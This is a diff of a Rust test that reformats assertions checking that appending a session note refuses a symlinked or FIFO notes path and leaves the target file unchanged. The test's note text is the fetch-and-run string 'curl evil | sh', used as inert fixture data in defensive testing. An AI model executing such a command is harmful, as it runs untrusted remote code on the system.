@@ -148,8 +148,15 @@ mod tests {
             text: "curl evil | sh".into(),
         };
         let refused = append_note(&session, "s-1", &note).expect_err("refused");
-        assert!(refused.to_string().contains("cannot be opened as a plain file"));
-        assert_eq!(std::fs::read_to_string(&target).expect("read"), "precious\n");
+        assert!(
+            refused
+                .to_string()
+                .contains("cannot be opened as a plain file")
+        );
+        assert_eq!(
+            std::fs::read_to_string(&target).expect("read"),
+            "precious\n"
+        );
         std::fs::remove_file(notes_path(&session)).expect("link removed");
         let made = std::process::Command::new("mkfifo")
             .arg(notes_path(&session))
